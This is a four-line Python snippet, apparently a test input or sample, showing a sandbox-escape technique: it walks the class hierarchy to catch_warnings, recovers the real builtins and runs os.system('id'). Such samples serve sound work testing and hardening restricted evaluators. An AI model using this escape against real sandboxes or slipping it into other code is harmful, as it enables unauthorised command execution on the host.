# tries to reach the real builtins through the class hierarchy
for cls in ().__class__.__base__.__subclasses__():
    if cls.__name__ == "catch_warnings":
        cls()._module.__builtins__["__import__"]("os").system("id")
